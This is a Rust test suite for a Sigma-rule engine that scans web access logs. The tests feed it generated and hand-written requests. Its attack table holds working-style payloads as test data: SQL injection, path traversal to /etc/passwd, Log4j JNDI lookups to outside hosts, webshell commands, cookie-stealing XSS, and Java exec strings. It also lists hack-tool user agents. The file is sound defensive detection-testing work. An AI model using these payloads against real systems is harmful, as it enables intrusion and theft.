//! Sigma rules from ../shared/corpus/sigma against access-log events.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use breachd::detect::sigma::{load_paths, Level, RuleId, SigmaSet};
use breachd::parse::clf::ClfParser;
use breachd::parse::Parsed;

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus/sigma")
}

fn corpus_set() -> SigmaSet {
    let root = corpus();
    load_paths(&[
        root.join("rules"),
        root.join("rules-threat-hunting"),
        root.join("rules-emerging-threats"),
    ])
}

/// Titles of the rules that fire on one combined-log line.
fn fired(set: &SigmaSet, line: &str) -> Vec<String> {
    let mut p = ClfParser::new();
    let Parsed::Event(ev) = p.parse(line) else {
        panic!("not an access line: {line}");
    };
    let mut out = Vec::new();
    set.matches(&ev, &mut out);
    out.iter()
        .map(|&id| set.rule(id).unwrap().title.clone())
        .collect()
}

#[test]
fn whole_corpus_loads_with_named_skips() {
    let set = corpus_set();
    println!(
        "loaded {} of {} rules ({} evaluated on every event)",
        set.len(),
        set.seen(),
        set.unfiltered()
    );
    let mut by_construct: BTreeMap<(bool, &str), Vec<String>> = BTreeMap::new();
    for w in set.warnings() {
        by_construct
            .entry((w.skipped, w.construct.as_str()))
            .or_default()
            .push(format!(
                "{} — {}",
                w.title.as_deref().unwrap_or("?"),
                w.message
            ));
    }
    for ((skipped, construct), ws) in &by_construct {
        println!(
            "{} {construct}: {}",
            if *skipped { "SKIPPED" } else { "DEGRADED" },
            ws.len()
        );
        for w in ws {
            println!("    {w}");
        }
    }
    assert_eq!(set.seen(), 119);
    // Every webserver/proxy rule loads except the two whose missing field
    // cannot be worked around; the skips, by class:
    // - `logsource service apache|nginx` (3): error-log messages (segfaults,
    //   core dumps), which are not access events;
    // - `field dst_ip` (1, WebDAV execution): the field sits in a negated
    //   filter, so dropping it would fire on every WebDAV download;
    // - `field cs-content-type` (1, SAP NetViewer upload): the rule's only
    //   selection needs it.
    // One rule loads degraded: Cobalt Strike's `selection_amazon_1` needs
    // `cs-cookie`; its other five selections still work.
    assert_eq!(set.len(), 114);
    let mut skipped: Vec<&str> = set
        .warnings()
        .iter()
        .filter(|w| w.skipped)
        .map(|w| w.construct.as_str())
        .collect();
    skipped.sort_unstable();
    assert_eq!(
        skipped,
        [
            "field cs-content-type",
            "field dst_ip",
            "logsource service apache",
            "logsource service apache",
            "logsource service nginx",
        ]
    );
    let degraded: Vec<&str> = set
        .warnings()
        .iter()
        .filter(|w| !w.skipped)
        .map(|w| w.construct.as_str())
        .collect();
    assert_eq!(degraded, ["field cs-cookie"]);
}

// ---- positive examples generated from each rule's own selections ----------

/// A minimal condition tree, parsed independently of the engine's, to pick
/// the selections a positive example must satisfy.
#[derive(Debug)]
enum C {
    Name(String),
    Of(bool, String),
    Not,
    And(Vec<C>),
    Or(Vec<C>),
}

fn parse_cond(s: &str) -> C {
    let spaced = s.replace('(', " ( ").replace(')', " ) ");
    let toks: Vec<&str> = spaced.split_whitespace().collect();
    let mut pos = 0;
    or(&toks, &mut pos)
}

fn or(t: &[&str], p: &mut usize) -> C {
    let mut v = vec![and(t, p)];
    while t.get(*p) == Some(&"or") {
        *p += 1;
        v.push(and(t, p));
    }
    if v.len() == 1 {
        v.remove(0)
    } else {
        C::Or(v)
    }
}

fn and(t: &[&str], p: &mut usize) -> C {
    let mut v = vec![atom(t, p)];
    while t.get(*p) == Some(&"and") {
        *p += 1;
        v.push(atom(t, p));
    }
    if v.len() == 1 {
        v.remove(0)
    } else {
        C::And(v)
    }
}

fn atom(t: &[&str], p: &mut usize) -> C {
    let tok = t[*p];
    *p += 1;
    match tok {
        "not" => {
            atom(t, p);
            C::Not
        }
        "(" => {
            let c = or(t, p);
            *p += 1; // ")"
            c
        }
        "1" | "all" => {
            *p += 1; // "of"
            let pat = t[*p].to_string();
            *p += 1;
            C::Of(tok == "all", pat)
        }
        name => C::Name(name.to_string()),
    }
}

fn name_matches(pat: &str, name: &str) -> bool {
    match pat.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => pat == "them" || pat == name,
    }
}

fn positive(c: &C, sels: &[String]) -> Vec<String> {
    match c {
        C::Name(n) => vec![n.clone()],
        C::Of(all, pat) => {
            let m: Vec<String> = sels
                .iter()
                .filter(|s| name_matches(pat, s))
                .cloned()
                .collect();
            if *all {
                m
            } else {
                m.into_iter().take(1).collect()
            }
        }
        C::Not => Vec::new(),
        C::And(v) => v.iter().flat_map(|x| positive(x, sels)).collect(),
        C::Or(v) => positive(&v[0], sels),
    }
}

/// A request built up to satisfy selections.
#[derive(Debug, Clone)]
struct Req {
    method: Option<String>,
    path: String,
    query: String,
    exact: Option<String>,
    suffix: String,
    status: Option<String>,
    ua: Option<String>,
    referer: Option<String>,
    user: Option<String>,
}

impl Req {
    fn new() -> Req {
        Req {
            method: None,
            path: String::new(),
            query: "page=1".into(),
            exact: None,
            suffix: String::new(),
            status: None,
            ua: Some("Mozilla/5.0 (X11; Linux x86_64) breachd-test".into()),
            referer: Some("https://www.example.org/start".into()),
            user: None,
        }
    }

    fn line(&self) -> String {
        let target = match &self.exact {
            Some(t) => t.clone(),
            None => {
                let mut t = if self.path.starts_with('/') {
                    self.path.clone()
                } else {
                    format!("/{}", self.path)
                };
                if !self.query.is_empty() {
                    t.push('?');
                    t.push_str(&self.query);
                }
                t.push_str(&self.suffix);
                t
            }
        };
        let q = |s: &Option<String>| s.clone().unwrap_or_else(|| "-".into());
        format!(
            "203.0.113.9 - {} [10/Oct/2025:13:55:36 +0000] \"{} {} HTTP/1.1\" {} 123 \"{}\" \"{}\"",
            q(&self.user),
            self.method.as_deref().unwrap_or("GET"),
            target,
            self.status.as_deref().unwrap_or("200"),
            q(&self.referer),
            q(&self.ua),
        )
    }
}

/// A literal that satisfies a Sigma string: wildcards become `x`, escapes resolve.
fn concrete(v: &str) -> String {
    let mut out = String::new();
    let mut chars = v.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if matches!(chars.peek(), Some('*' | '?' | '\\')) => out.extend(chars.next()),
            '*' | '?' => out.push('x'),
            c => out.push(c),
        }
    }
    out
}

fn scalar(v: &serde_yaml_ng::Value) -> Option<String> {
    match v {
        serde_yaml_ng::Value::String(s) => Some(s.clone()),
        serde_yaml_ng::Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

/// Applies one `field|mods: value(s)`; `Err` names why no CLF line can satisfy it.
fn apply(req: &mut Req, key: &str, value: &serde_yaml_ng::Value) -> Result<(), String> {
    let mut parts = key.split('|');
    let field = parts.next().unwrap_or_default();
    let mods: Vec<&str> = parts.collect();
    if mods
        .iter()
        .any(|m| matches!(*m, "re" | "cidr" | "base64" | "base64offset" | "windash"))
    {
        return Err(format!("modifier in {key}"));
    }
    let all = mods.contains(&"all");
    let anchor = mods
        .iter()
        .find(|m| matches!(**m, "contains" | "startswith" | "endswith"))
        .copied();
    let values: Vec<Option<String>> = match value {
        serde_yaml_ng::Value::Sequence(s) if all => s.iter().map(scalar).collect(),
        serde_yaml_ng::Value::Sequence(s) => s.iter().take(1).map(scalar).collect(),
        v => vec![scalar(v)],
    };
    for v in values {
        let v = v.map(|v| concrete(&v)).filter(|v| !v.is_empty());
        let set_text = |slot: &mut Option<String>| match (&v, anchor) {
            (None, _) => *slot = None,
            (Some(v), Some("contains")) => {
                *slot = Some(format!("{} {v} ", slot.clone().unwrap_or_default()))
            }
            (Some(v), Some("startswith")) => {
                *slot = Some(format!("{v}{}", slot.clone().unwrap_or_default()))
            }
            (Some(v), Some("endswith")) => {
                *slot = Some(format!("{}{v}", slot.clone().unwrap_or_default()))
            }
            (Some(v), _) => *slot = Some(v.clone()),
        };
        match field {
            "cs-method" => req.method = v.clone(),
            "sc-status" => req.status = v.clone(),
            "cs-user-agent" | "c-useragent" => set_text(&mut req.ua),
            "cs-referer" => set_text(&mut req.referer),
            "cs-username" => set_text(&mut req.user),
            "cs-uri-query" | "c-uri-query" | "cs-uri-stem" | "cs-uri" | "c-uri" | ""
            | "c-uri-extension" => {
                let Some(v) = v else {
                    return Err(format!("null {key}"));
                };
                if v.contains('"') {
                    return Err(format!("quote in {key}"));
                }
                match (field, anchor) {
                    ("c-uri-extension", _) => req.path.push_str(&format!("/file.{v}")),
                    (_, Some("endswith")) => req.suffix.push_str(&v),
                    ("cs-uri-query" | "c-uri-query", Some("startswith")) => {
                        req.query.insert_str(0, &v)
                    }
                    ("cs-uri-query" | "c-uri-query", Some(_)) => req.query.push_str(&v),
                    ("cs-uri-stem", None) => req.path = v,
                    ("cs-uri" | "c-uri" | "cs-uri-query", None) => req.exact = Some(v),
                    _ => req.path.push_str(&v),
                }
            }
            other => return Err(format!("field {other}")),
        }
    }
    Ok(())
}

fn apply_selection(req: &mut Req, sel: &serde_yaml_ng::Value) -> Result<(), String> {
    use serde_yaml_ng::Value;
    match sel {
        Value::Mapping(m) => {
            for (k, v) in m {
                apply(req, k.as_str().unwrap_or_default(), v)?;
            }
            Ok(())
        }
        Value::Sequence(s) => match s.first() {
            Some(first @ Value::Mapping(_)) => apply_selection(req, first),
            Some(v) => apply(req, "|contains", v),
            None => Err("empty selection".into()),
        },
        _ => Err("selection shape".into()),
    }
}

/// Builds a line satisfying `rule_yaml`'s condition, or says why it cannot.
fn positive_line(rule_yaml: &str) -> Result<String, String> {
    let doc: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(rule_yaml).map_err(|e| e.to_string())?;
    let det = doc
        .get("detection")
        .and_then(|d| d.as_mapping())
        .ok_or("no detection")?;
    let names: Vec<String> = det
        .keys()
        .filter_map(|k| k.as_str())
        .filter(|k| *k != "condition")
        .map(String::from)
        .collect();
    let cond = det
        .get("condition")
        .and_then(|c| c.as_str())
        .ok_or("condition")?;
    let mut req = Req::new();
    for name in positive(&parse_cond(cond), &names) {
        apply_selection(&mut req, det.get(name.as_str()).ok_or("unknown selection")?)?;
    }
    Ok(req.line())
}

fn rule_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            rule_files(&p, out);
        } else if p.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(p);
        }
    }
}

#[test]
fn every_generatable_rule_fires_on_its_own_example() {
    let mut files = Vec::new();
    rule_files(&corpus(), &mut files);
    let (mut fired_ok, mut untestable, mut failures) = (0, Vec::new(), Vec::new());
    for f in &files {
        let yaml = std::fs::read_to_string(f).unwrap();
        let set = SigmaSet::from_str(&yaml, &f.display().to_string());
        let Some(rule) = set.rules().first() else {
            continue;
        };
        match positive_line(&yaml) {
            Ok(line) => {
                if fired(&set, &line).contains(&rule.title) {
                    fired_ok += 1;
                } else {
                    failures.push(format!("{}\n      {line}", rule.title));
                }
            }
            Err(why) => untestable.push(format!("{} ({why})", rule.title)),
        }
    }
    println!("{fired_ok} rules fire on a generated example; untestable by generation:");
    for u in &untestable {
        println!("    {u}");
    }
    assert!(
        failures.is_empty(),
        "rules that did not fire on their own example:\n  {}",
        failures.join("\n  ")
    );
    assert!(fired_ok >= 100, "only {fired_ok} rules were exercised");
}

// ---- hand-written attacks ------------------------------------------------

fn line(method_target: &str, status: u16, referer: &str, ua: &str) -> String {
    format!("198.51.100.23 - - [02/Mar/2026:10:00:01 +0000] \"{method_target} HTTP/1.1\" {status} 512 \"{referer}\" \"{ua}\"")
}

const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";

/// (request, status, referer, user agent, title of a rule that must fire)
const ATTACKS: &[(&str, u16, &str, &str, &str)] = &[
    // SQL injection, raw and percent-encoded
    (
        "GET /item.php?id=1%20UNION%20select%20*%20from%20users",
        200,
        "-",
        UA,
        "SQL Injection Strings In URI",
    ),
    (
        "GET /item.php?id=1+group_concat(username)",
        200,
        "-",
        UA,
        "SQL Injection Strings In URI",
    ),
    // path traversal, only visible after decoding `%2F`
    (
        "GET /download?file=..%2F..%2F..%2Fetc%2Fpasswd",
        200,
        "-",
        UA,
        "Path Traversal Exploitation Attempts",
    ),
    // log4j in the user agent, and URL-encoded in the path
    (
        "GET /",
        200,
        "-",
        "${jndi:ldap://198.51.100.7:1389/a}",
        "Log4j RCE CVE-2021-44228 in Fields",
    ),
    (
        "GET /?x=%24%7bjndi:ldap://evil/a%7d",
        200,
        "-",
        UA,
        "Log4j RCE CVE-2021-44228 Generic",
    ),
    // webshell commands
    (
        "GET /uploads/shell.aspx?cmd=whoami",
        200,
        "-",
        UA,
        "Windows Webshell Strings",
    ),
    // scanners by user agent
    (
        "GET /",
        404,
        "-",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Suspicious User-Agents Related To Recon Tools",
    ),
    (
        "GET /cgi-bin/test.cgi",
        404,
        "-",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
        "Suspicious User-Agents Related To Recon Tools",
    ),
    (
        "GET /",
        200,
        "-",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Hack Tool User Agent",
    ),
    // cobalt strike's default generic profile user agent
    (
        "GET /pixel.gif",
        200,
        "-",
        "Mozilla/5.0 (Windows; U; MSIE 7.0; Windows NT 5.2) Java/1.5.0_08",
        "HackTool - CobaltStrike Malleable Profile Patterns - Proxy",
    ),
    // source code leak, XSS, SSTI, Java payloads
    (
        "GET /.git/config",
        200,
        "-",
        UA,
        "Source Code Enumeration Detection by Keyword",
    ),
    (
        "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        200,
        "-",
        UA,
        "Cross Site Scripting Strings",
    ),
    (
        "GET /hello?name={{7*7}}",
        200,
        "-",
        UA,
        "Server Side Template Injection Strings",
    ),
    (
        "GET /index.action?x=${(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        200,
        "-",
        UA,
        "Java Payload Strings",
    ),
    // CVEs: Apache 2.4.49 traversal (status list), Grafana plugin traversal, Confluence
    (
        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        200,
        "-",
        UA,
        "CVE-2021-41773 Exploitation Attempt",
    ),
    (
        "GET /public/plugins/text/../../../../../../../../etc/passwd",
        200,
        "-",
        UA,
        "Grafana Path Traversal Exploitation CVE-2021-43798",
    ),
    // a regex rule (evaluated on every event)
    (
        "GET /redirect?u=https://ipfs.io/ipfs/bafy/login.html#victim@example.com",
        200,
        "-",
        UA,
        "Suspicious Network Communication With IPFS",
    ),
    // the query-null filter: plugin access with a query fires
    (
        "GET /wp-content/plugins/wp2shell_x/shell.php?c=id",
        200,
        "-",
        UA,
        "WordPress Wp2shell Webshell Plugin Access",
    ),
    // `cs-uri-query|startswith` means the query proper
    (
        "GET /irj/servlet_jsp/irj/root/helper.jsp?cmd=id",
        200,
        "-",
        UA,
        "Potential SAP NetViewer Webshell Command Execution",
    ),
    // empty user agent
    ("GET /", 200, "-", "-", "HTTP Request With Empty User Agent"),
];

#[test]
fn representative_attacks_fire() {
    let set = corpus_set();
    let titles: Vec<&str> = set.rules().iter().map(|r| r.title.as_str()).collect();
    for &(req, status, referer, ua, want) in ATTACKS {
        assert!(titles.contains(&want), "no loaded rule titled {want:?}");
        let l = line(req, status, referer, ua);
        let got = fired(&set, &l);
        assert!(
            got.iter().any(|t| t == want),
            "{want:?} did not fire on\n  {l}\n  fired: {got:?}"
        );
    }
}

#[test]
fn query_null_filter_suppresses_plugin_access_without_query() {
    let set = corpus_set();
    let got = fired(
        &set,
        &line(
            "GET /wp-content/plugins/wp2shell_x/readme.txt",
            200,
            "-",
            UA,
        ),
    );
    assert!(
        !got.iter()
            .any(|t| t == "WordPress Wp2shell Webshell Plugin Access"),
        "{got:?}"
    );
}

#[test]
fn host_rules_fire_on_events_that_carry_a_host() {
    use breachd::parse::Event;
    use std::borrow::Cow;
    let set = corpus_set();
    let cases: &[(&str, &str, &str, &str)] = &[
        ("api.telegram.org", "/bot123/sendMessage", "curl/8.0", "Telegram API Access"),
        ("evil.hopto.org", "/payload.exe", "curl/8.0", "Download from Suspicious Dyndns Hosts"),
        ("203.0.113.5", "/x.bin", "Microsoft BITS/7.8", "Bitsadmin to Uncommon IP Server Address"),
        (
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "/oauth/idp/.well-known/openid-configuration",
            UA,
            "CVE-2023-4966 Exploitation Attempt - Citrix ADC Sensitive Information Disclosure - Webserver",
        ),
    ];
    for &(host, target, ua, want) in cases {
        let ev = Event {
            action: Some(Cow::Borrowed("GET")),
            resource: Some(Cow::Borrowed(target)),
            status: Some(200),
            user_agent: Some(Cow::Borrowed(ua)),
            host: Some(Cow::Borrowed(host)),
            ..Event::default()
        };
        let mut out: Vec<RuleId> = Vec::new();
        set.matches(&ev, &mut out);
        let got: Vec<&str> = out
            .iter()
            .map(|&id| set.rule(id).unwrap().title.as_str())
            .collect();
        assert!(
            got.contains(&want),
            "{want:?} did not fire for host {host}: {got:?}"
        );
    }
}

// ---- a real, mostly benign log -------------------------------------------

#[test]
fn real_apache_log_fires_no_critical_rule() {
    let set = corpus_set();
    let path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus/elastic-examples/apache_logs");
    let text = std::fs::read_to_string(path).unwrap();
    let mut parser = ClfParser::new();
    let mut by_rule: BTreeMap<String, (Level, usize, String)> = BTreeMap::new();
    let mut out = Vec::new();
    let mut events = 0;
    for l in text.lines().take(2000) {
        let Parsed::Event(ev) = parser.parse(l) else {
            continue;
        };
        events += 1;
        set.matches(&ev, &mut out);
        for &id in &out {
            let r = set.rule(id).unwrap();
            let e = by_rule
                .entry(r.title.clone())
                .or_insert((r.level, 0, l.to_string()));
            e.1 += 1;
        }
    }
    println!("{events} events; rules that fired:");
    for (title, (level, n, sample)) in &by_rule {
        println!("  [{level}] {title}: {n}\n      e.g. {sample}");
    }
    let critical: Vec<&String> = by_rule
        .iter()
        .filter(|(_, v)| v.0 == Level::Critical)
        .map(|(k, _)| k)
        .collect();
    assert!(
        critical.is_empty(),
        "critical rules fired on the benign log: {critical:?}"
    );
}

// ---- edge cases -----------------------------------------------------------

fn rule(detection: &str) -> String {
    format!(
        "title: Test rule\nid: 00000000-0000-0000-0000-000000000001\nstatus: test\nlogsource:\n    category: webserver\ndetection:\n{detection}\nlevel: high\n"
    )
}

#[test]
fn unsupported_constructs_are_named_warnings() {
    let cases: &[(&str, &str)] = &[
        ("    sel:\n        cs-uri-query|expand: '%x%'\n    condition: sel", "modifier expand"),
        ("    sel:\n        cs-uri-query|fieldref: cs-host\n    condition: sel", "modifier fieldref"),
        ("    sel:\n        cs-uri-query|utf8: x\n    condition: sel", "modifier utf8"),
        ("    sel:\n        cs-method: GET\n    condition: sel | count() by c-ip > 10", "condition aggregation"),
        ("    sel:\n        cs-method: GET\n    timeframe: 5m\n    condition: sel", "timeframe"),
        ("    sel:\n        cs-cookie: x\n    condition: sel", "field cs-cookie"),
        ("    sel:\n        cs-method: GET\n    filter:\n        dst_ip: 10.0.0.1\n    condition: sel and not filter", "field dst_ip"),
        ("    sel:\n        cs-uri-query|re: '('\n    condition: sel", "modifier re"),
        ("    sel:\n        c-ip|cidr: 'nonsense'\n    condition: sel", "modifier cidr"),
        ("    sel:\n        cs-method: GET\n    condition: sel and other", "condition name"),
        ("    sel1:\n        cs-method: GET\n    sel2:\n        sc-status: 200\n    condition: 2 of sel*", "condition N of"),
        ("    sel:\n        cs-method:\n            nested: map\n    condition: sel", "value type"),
        ("    sel:\n        cs-method|contains|re: x\n    condition: sel", "modifier combination"),
        ("    sel:\n        cs-method: GET\n    condition: sel and (", "condition syntax"),
        ("    sel:\n        cs-method: GET", "condition"),
    ];
    for &(det, construct) in cases {
        let set = SigmaSet::from_str(&rule(det), "edge.yml");
        assert_eq!(set.len(), 0, "{construct}: the rule should be skipped");
        let w = &set.warnings()[0];
        assert_eq!(w.construct, construct, "{det}");
        assert!(w.skipped);
        assert_eq!(w.title.as_deref(), Some("Test rule"));
        assert_eq!(w.file, Path::new("edge.yml"));
    }
}

#[test]
fn other_logsources_and_collections_are_skipped() {
    let set = SigmaSet::from_str(
        "title: P\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    sel:\n        Image: x\n    condition: sel\n",
        "p.yml",
    );
    assert_eq!(
        set.warnings()[0].construct,
        "logsource category process_creation"
    );
    let set = SigmaSet::from_str(
        &format!(
            "{}---\n{}",
            rule("    s:\n        cs-method: GET\n    condition: s"),
            rule("    s:\n        cs-method: POST\n    condition: s")
        ),
        "c.yml",
    );
    assert_eq!(
        (set.len(), set.warnings()[0].construct.as_str()),
        (0, "multi-document rule collection")
    );
    let set = SigmaSet::from_str("", "empty.yml");
    assert_eq!(set.warnings()[0].construct, "empty file");
    let set = SigmaSet::from_str("- just\n- a list\n", "list.yml");
    assert_eq!(set.warnings()[0].construct, "rule shape");
}

#[test]
fn malformed_yaml_names_file_and_line() {
    let set = SigmaSet::from_str(
        "title: x\nlogsource:\n  category: webserver\ndetection: [unclosed\n",
        "broken.yml",
    );
    let w = &set.warnings()[0];
    assert_eq!(
        (w.construct.as_str(), w.file.as_path()),
        ("yaml", Path::new("broken.yml"))
    );
    assert!(w.line.is_some_and(|l| l >= 4), "{w:?}");
    assert!(w.to_string().starts_with("broken.yml:"), "{w}");

    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("good.yml"),
        rule("    s:\n        cs-method: GET\n    condition: s"),
    )
    .unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/bad.yaml"), "title: [\n").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
    let set = load_paths(&[dir.path().to_path_buf(), dir.path().join("missing")]);
    assert_eq!((set.len(), set.seen()), (1, 3));
    let files: Vec<String> = set
        .warnings()
        .iter()
        .map(|w| w.file.display().to_string())
        .collect();
    assert!(
        files[0].ends_with("sub/bad.yaml") && set.warnings()[0].construct == "yaml",
        "{files:?}"
    );
    assert!(
        files[1].ends_with("missing") && set.warnings()[1].construct == "file",
        "{files:?}"
    );
}

/// Request, status, referer and user agent of a test line.
type Parts = (&'static str, u16, &'static str, &'static str);

/// (detection, line parts, fires?)
const SEMANTICS: &[(&str, Parts, bool)] = &[
    // case-insensitive by default, `cased` is exact
    ("    s:\n        cs-uri-query|contains: 'UNION'\n    condition: s", ("GET /?q=union", 200, "-", "ua"), true),
    ("    s:\n        cs-uri-query|contains|cased: 'UNION'\n    condition: s", ("GET /?q=union", 200, "-", "ua"), false),
    // `re` is case-sensitive unless told
    ("    s:\n        cs-uri|re: 'ADMIN'\n    condition: s", ("GET /admin", 200, "-", "ua"), false),
    ("    s:\n        cs-uri|re|i: 'ADMIN'\n    condition: s", ("GET /admin", 200, "-", "ua"), true),
    // the decoded view
    ("    s:\n        cs-uri-stem|endswith: '/etc/passwd'\n    condition: s", ("GET /a/..%2Fetc%2Fpasswd", 200, "-", "ua"), true),
    // stem proper for anchored values; extension
    ("    s:\n        cs-uri-stem|endswith: '.jsp'\n    condition: s", ("GET /x/a.jsp?cmd=id", 200, "-", "ua"), true),
    ("    s:\n        c-uri-extension: 'jsp'\n    condition: s", ("GET /x/a.JSP?cmd=id", 200, "-", "ua"), true),
    ("    s:\n        c-uri-extension: 'jsp'\n    condition: s", ("GET /x.jsp/a?cmd=id", 200, "-", "ua"), false),
    // null, empty, exists
    ("    s:\n        cs-referer: null\n    condition: s", ("GET /", 200, "-", "ua"), true),
    ("    s:\n        cs-referer: null\n    condition: s", ("GET /", 200, "http://r/", "ua"), false),
    ("    s:\n        cs-user-agent: ''\n    condition: s", ("GET /", 200, "-", "-"), true),
    ("    s:\n        cs-user-agent|exists: true\n    condition: s", ("GET /", 200, "-", "-"), false),
    // numbers, lists, all
    ("    s:\n        sc-status: [200, 301]\n    condition: s", ("GET /", 301, "-", "ua"), true),
    ("    s:\n        sc-status|gte: 500\n    condition: s", ("GET /", 503, "-", "ua"), true),
    ("    s:\n        sc-bytes|gt: 1000\n    condition: s", ("GET /", 200, "-", "ua"), false),
    ("    s:\n        cs-uri|contains|all: ['a', 'zz']\n    condition: s", ("GET /abc", 200, "-", "ua"), false),
    // keywords with `|all`, across method and status
    ("    k:\n        '|all': [POST, 201, '/api/']\n    condition: k", ("POST /api/x", 201, "-", "ua"), true),
    // wildcards and escapes
    ("    s:\n        c-uri: '/a/*/c?'\n    condition: s", ("GET /a/bbb/cd", 200, "-", "ua"), true),
    ("    s:\n        c-uri|endswith: '\\?x=1'\n    condition: s", ("GET /p?x=1", 200, "-", "ua"), true),
    ("    s:\n        c-uri|endswith: '\\?x=1'\n    condition: s", ("GET /pQx=1", 200, "-", "ua"), false),
    // cidr, base64offset, windash
    ("    s:\n        c-ip|cidr: '198.51.100.0/24'\n    condition: s", ("GET /", 200, "-", "ua"), true),
    ("    s:\n        c-ip|cidr: '10.0.0.0/8'\n    condition: s", ("GET /", 200, "-", "ua"), false),
    ("    s:\n        cs-uri-query|base64offset|contains: '/bin/sh'\n    condition: s", ("GET /?p=eCAvYmluL3No", 200, "-", "ua"), true),
    ("    s:\n        cs-uri-query|windash|contains: ' -enc '\n    condition: s", ("GET /?c=powershell%20/enc%20AA", 200, "-", "ua"), true),
    // conditions: all of them, 1 of them with `_` names left out, not
    ("    a:\n        cs-method: GET\n    b:\n        sc-status: 200\n    condition: all of them", ("GET /", 200, "-", "ua"), true),
    ("    a:\n        cs-method: POST\n    _b:\n        sc-status: 200\n    condition: 1 of them", ("GET /", 200, "-", "ua"), false),
    ("    a:\n        cs-method: GET\n    f:\n        cs-user-agent|startswith: 'good'\n    condition: a and not f", ("GET /", 200, "-", "GoodBot"), false),
    // a list of maps is an OR
    ("    s:\n        - cs-method: POST\n        - sc-status: 404\n    condition: s", ("GET /", 404, "-", "ua"), true),
];

#[test]
fn matching_semantics_table() {
    for &(det, (req, status, referer, ua), want) in SEMANTICS {
        let set = SigmaSet::from_str(&rule(det), "t.yml");
        assert_eq!(set.len(), 1, "{det}: {:?}", set.warnings());
        let l = line(req, status, referer, ua);
        assert_eq!(!fired(&set, &l).is_empty(), want, "{det}\n  {l}");
    }
}

mod never_panics {
    use super::*;
    use breachd::parse::Event;
    use proptest::prelude::*;
    use std::borrow::Cow;
    use std::sync::OnceLock;

    fn set() -> &'static SigmaSet {
        static SET: OnceLock<SigmaSet> = OnceLock::new();
        SET.get_or_init(corpus_set)
    }

    fn text() -> impl Strategy<Value = Option<String>> {
        proptest::option::of(prop_oneof![
            any::<String>(),
            "[%a-f0-9A-F/?.=&${}: -]{0,40}",
            Just("%".to_string()),
            Just("%2".to_string()),
            Just("?".to_string()),
        ])
    }

    proptest! {
        #[test]
        fn matching_arbitrary_events(
            method in text(), target in text(), ua in text(), referer in text(), host in text(),
            user in text(), status in proptest::option::of(any::<u16>()), bytes in proptest::option::of(any::<u64>()),
            ip in proptest::option::of(any::<std::net::IpAddr>()),
        ) {
            let ev = Event {
                action: method.map(Cow::Owned),
                resource: target.map(Cow::Owned),
                user_agent: ua.map(Cow::Owned),
                referer: referer.map(Cow::Owned),
                host: host.map(Cow::Owned),
                user: user.map(Cow::Owned),
                status,
                bytes_out: bytes,
                ip,
                ..Event::default()
            };
            let mut out = Vec::new();
            set().matches(&ev, &mut out);
            prop_assert!(out.windows(2).all(|w| w[0] < w[1]));
        }

        #[test]
        fn loading_arbitrary_detections(
            key in "[a-z|-]{0,30}", value in any::<String>(), cond in "[a-z0-9_ *()|]{0,30}",
        ) {
            let det = format!("    s:\n        {key:?}: {value:?}\n    condition: {cond:?}");
            let set = SigmaSet::from_str(&rule(&det), "p.yml");
            let mut out = Vec::new();
            let l = line("GET /x?y=%41", 200, "-", "ua");
            let mut p = ClfParser::new();
            if let Parsed::Event(ev) = p.parse(&l) {
                set.matches(&ev, &mut out);
            }
        }

        #[test]
        fn loading_arbitrary_text(yaml in any::<String>()) {
            let _ = SigmaSet::from_str(&yaml, "fuzz.yml");
        }
    }
}
